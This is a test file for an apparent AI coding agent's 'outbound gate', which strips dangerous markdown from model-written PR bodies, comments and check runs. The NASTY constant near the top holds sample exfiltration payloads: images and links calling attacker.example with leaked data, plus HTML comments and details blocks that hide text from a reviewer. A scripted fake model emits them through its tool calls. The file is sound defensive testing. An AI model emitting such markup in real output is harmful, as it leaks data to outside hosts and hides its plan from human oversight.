import { readBranch } from "../../fakes/git/bare-repo.js";
import { type Harness } from "../../harness/harness.js";
import { storyScript, storySteps } from "../../harness/story.js";
import { endOf, parseMarkdown, startOf, visit } from "../../../src/safety/markdown-tree.js";
import { storyHarness } from "../../harness/story-helpers.js";

/**
 * Model-written text in every published body (PR title and body, comments, check run, commits)
 * carries what rendered markdown can do to a reader: images that fetch an attacker's URL with data
 * in it (through GitHub's image proxy), `<img>`, links and autolinks to other hosts, HTML comments
 * that hide part of the plan from its reviewer — and far more text than GitHub accepts.
 */
const NASTY = [
  "![s](https://attacker.example/p.png?d=LEAK1)",
  '<img src="https://attacker.example/q.png?d=LEAK2">',
  "[the docs](https://attacker.example/docs?d=LEAK3)",
  "see https://attacker.example/auto?d=LEAK4 and www.attacker.example/www?d=LEAK5 and <https://attacker.example/angle?d=LEAK6>",
  "<!-- HIDDEN-FROM-REVIEWER -->",
  "<details><summary>fine</summary>HIDDEN-IN-DETAILS</details>",
].join(" ");
const LONG = "x".repeat(100_000);
const STEPS = Array.from({ length: 250 }, (_, i) => `Step ${i}: ${NASTY} ${"y".repeat(300)}`);

function script() {
  const s = storyScript();
  s[1] = { toolCalls: [{ name: "submit_plan", arguments: { summary: `${NASTY}\n\n${LONG}`, steps: STEPS } }] };
  s[4] = { toolCalls: [{ name: "finish", arguments: { summary: `${NASTY} ${LONG}` } }] };
  return s;
}

const OWN = /^http:\/\/127\.0\.0\.1:\d+\/octo-org\/calculator(\/|$)/;
const MARKER = /^<!-- patchgate:[^>]*-->$/;
// Patchgate's own attribute-free tags (the check run's `<details><summary>…<code>…</code></summary>`).
const OWN_TAG = /<\/?(details|summary|sub|sup|br|b|i|kbd|code)>/g;
const onlyOwnTags = (html: string): boolean => !html.replace(OWN_TAG, "").includes("<");

/** What GitHub would render in `md` that acts: images, foreign links, HTML other than our own. */
function active(md: string): string[] {
  const found: string[] = [];
  visit(parseMarkdown(md), (n) => {
    if (n.type === "image" || n.type === "imageReference") found.push(`image ${md.slice(startOf(n), endOf(n))}`);
    if ((n.type === "link" && !OWN.test(n.url)) || n.type === "linkReference" || n.type === "definition") found.push(`link ${md.slice(startOf(n), endOf(n))}`);
    if (n.type === "html" && !MARKER.test(n.value) && !onlyOwnTags(n.value)) found.push(`html ${n.value}`);
  });
  return found;
}

describe("the outbound gate", () => {
  let h: Harness;
  beforeAll(async () => {
    h = await storyHarness({ script: script() });
    await storySteps.ask(h);
    await storySteps.approvePlan(h);
    await storySteps.approveWrites(h);
    // A whole story whose every body is ~100,000 characters of markdown to parse: slow on a loaded machine.
  }, 240_000);
  afterAll(() => h.close());

  const bodies = (): [string, string][] => {
    const w = h.github.world;
    const commit = readBranch(h.bare, "patchgate/issue-1")!;
    return [
      ...w.pulls.flatMap((p): [string, string][] => [
        [`PR #${p.number} title`, p.title],
        [`PR #${p.number} body`, p.body],
      ]),
      ...w.comments.map((c): [string, string] => [`comment ${c.id}`, c.body]),
      ...w.checkRuns.flatMap((r): [string, string][] => [
        [`check run ${r.id} title`, r.output.title ?? ""],
        [`check run ${r.id} summary`, r.output.summary ?? ""],
        [`check run ${r.id} text`, r.output.text ?? ""],
      ]),
      // The trailer is ours and commit messages are not rendered as markdown; the rest is the model's.
      ["result commit", commit.message.replace(/^Co-authored-by: .*$/m, "")],
    ];
  };

  test("the session published: nothing was refused by GitHub", () => {
    expect(h.app.errors).toEqual([]);
    expect(h.github.world.pulls[0].draft).toBe(false);
    expect(h.github.world.calls.filter((c) => c.status >= 400)).toEqual([]);
  });

  test("no posted body renders an image, a foreign link, raw HTML or a hidden comment", () => {
    for (const [what, body] of bodies()) expect([what, active(body)]).toEqual([what, []]);
    for (const [, body] of bodies()) expect(body).not.toContain("HIDDEN-FROM-REVIEWER");
  });

  test("the model's text is still readable: link text stays, URLs are shown as code", () => {
    const pr = h.github.world.pulls[0].body;
    expect(pr).toContain("the docs (`https://attacker.example/docs?d=LEAK3`)");
    expect(pr).toContain("`https://attacker.example/p.png?d=LEAK1`");
    expect(pr).toContain("`<details>`");
  });

  test("every body is within GitHub's limits, and a cut one says where the rest is", () => {
    const w = h.github.world;
    for (const p of w.pulls) expect([p.body.length <= 65_536, p.title.length <= 255]).toEqual([true, true]);
    for (const c of w.comments) expect(c.body.length).toBeLessThanOrEqual(65_536);
    for (const r of w.checkRuns) for (const part of [r.output.summary ?? "", r.output.text ?? ""]) expect(Buffer.byteLength(part)).toBeLessThanOrEqual(65_535);
    const plan = w.comments.find((c) => c.body.startsWith("📋"))!;
    expect(plan.body).toMatch(/… truncated — full text in `patchgate trace [0-9a-f-]+`\n\n<!-- patchgate:/);
  });
});
